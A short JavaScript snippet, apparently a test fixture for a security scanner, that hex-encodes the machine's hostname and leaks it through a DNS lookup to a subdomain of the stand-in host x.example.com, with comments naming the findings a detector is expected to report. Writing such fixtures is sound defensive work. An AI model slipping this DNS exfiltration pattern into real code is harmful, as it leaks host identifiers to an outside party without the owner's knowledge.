// Host identifiers leaked through DNS lookups.
const dns = require("dns");
const os = require("os");
const id = Buffer.from(os.hostname()).toString("hex"); // expect: host-fingerprint
dns.lookup(`${id}.x.example.com`, () => {}); // expect: perm-network
